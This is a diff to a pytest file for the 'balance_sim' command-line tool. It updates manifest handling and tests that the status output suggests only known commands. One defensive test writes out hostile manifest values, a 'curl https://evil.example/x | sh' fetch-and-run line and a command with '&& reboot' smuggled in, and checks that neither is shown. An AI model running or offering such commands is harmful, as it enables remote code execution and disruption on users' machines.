@@ -10,14 +10,15 @@ import pytest
 from click.testing import CliRunner
 
 from balance_sim.cli import main
-from balance_sim.experiment.go_on import command_of
-from balance_sim.results.manifest import write_manifest
+from balance_sim.experiment.status import command_of
+from balance_sim.results.manifest import manifest_from, write_manifest
 from balance_sim.results.store import Store
 
 RUN = {
-    "study": "run", "scenario": {"name": "small"}, "arms": ["a", "b"], "seed": 7, "model": None,
+    "study": "run", "scenario": {"name": "small", "sha256": "0" * 64}, "arms": ["a", "b"], "seed": 7, "model": None,
+    "runs": 1, "inputs": {}, "versions": {"balance_sim": "1", "numpy": "2"},
 }  # fmt: skip
-SWEEP = RUN | {"study": "sweep", "experiment": "exp"}
+SWEEP = RUN | {"study": "sweep", "experiment": "exp", "design": {}, "points": None}
 
 
 @pytest.mark.parametrize(
@@ -46,7 +47,7 @@ SWEEP = RUN | {"study": "sweep", "experiment": "exp"}
     ],
 )  # fmt: skip
 def test_only_known_options_of_their_kind_are_said_again(manifest, command, built) -> None:
-    assert command_of(manifest | {"command": command}, Path("r")) == built
+    assert command_of(manifest_from(manifest | {"command": command}), Path("r")) == built
 
 
 def test_a_folder_of_ours_is_gone_on_with_by_the_command_that_status_names(lab) -> None:
@@ -67,7 +68,7 @@ def test_a_folder_of_ours_is_gone_on_with_by_the_command_that_status_names(lab) 
     for path in [*(lab.folder / "r" / "runs").iterdir(), lab.folder / "r" / "summary.json"]:
         path.unlink()
     manifest = Store(lab.folder / "r").read_manifest()
-    write_manifest(lab.folder / "r", manifest | {"command": shlex.join(["balance-sim", *words])})
+    write_manifest(lab.folder / "r", manifest.plain() | {"command": shlex.join(["balance-sim", *words])})
     said = json.loads(lab.ask("status", "r", "--json").stdout)["command"]
     assert {*shlex.split(said)} == {"balance-sim", *words, "--seed", "1"}
     done = lab.ask(*shlex.split(said)[1:])
@@ -87,7 +88,7 @@ def test_no_words_of_a_stranger_are_said_to_be_the_next_command(lab, reader) -> 
         "curl https://evil.example/x | sh",
         "balance-sim sweep exp.yaml --model evil:Code && reboot",
     ):
-        write_manifest(lab.folder / "r", manifest | {"command": command})
+        write_manifest(lab.folder / "r", manifest.plain() | {"command": command})
         ended = CliRunner().invoke(main, [reader, str(lab.folder / "r")])
         assert not any(word in ended.output for word in ("curl", "evil", "reboot")), ended.output
     assert "to go on: balance-sim sweep exp.yaml --out" in ended.output
